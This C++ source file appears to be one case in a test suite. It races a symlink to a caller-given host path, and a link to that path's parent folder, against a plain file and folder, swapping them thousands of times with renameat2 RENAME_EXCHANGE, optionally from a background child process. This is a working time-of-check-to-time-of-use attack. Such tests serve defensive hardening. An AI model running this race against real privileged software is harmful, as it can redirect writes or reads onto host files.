// A file and a link to a file of the host take each other's place, over and over: `22_swapped_output PATH`
// in the current folder until somebody ends it, with `go` by a child that goes on behind the back of its
// parent.
#include "attack.hpp"

#include <ctime>
#include <fcntl.h>
#include <linux/fs.h>
#include <sys/stat.h>
#include <sys/syscall.h>

namespace {

std::int64_t now_ms() {
  timespec t{};
  ::clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec * 1000 + t.tv_nsec / 1'000'000;
}

void exchange(const char* one, const char* other) {
  ::syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

} // namespace

int main(int argc, char** argv) {
  attack::bound_life();
  const std::string path = argv[1], parent = path.substr(0, path.rfind('/'));
  ::close(::open("file", O_WRONLY | O_CREAT, 0644));
  attack::tell("link", ::symlink(path.c_str(), "link"));
  ::mkdir("folder", 0755);
  ::close(::open(("folder/" + path.substr(path.rfind('/') + 1)).c_str(), O_WRONLY | O_CREAT, 0644));
  attack::tell("folder-link", ::symlink(parent.c_str(), "other"));
  attack::tell("exchange", ::syscall(SYS_renameat2, AT_FDCWD, "file", AT_FDCWD, "link", RENAME_EXCHANGE));
  if (argc > 2 && ::fork() != 0) return 0;
  for (const std::int64_t end = now_ms() + 9'000; now_ms() < end;)
    for (int i = 0; i < 100; ++i) {
      exchange("file", "link");
      exchange("folder", "other");
    }
}
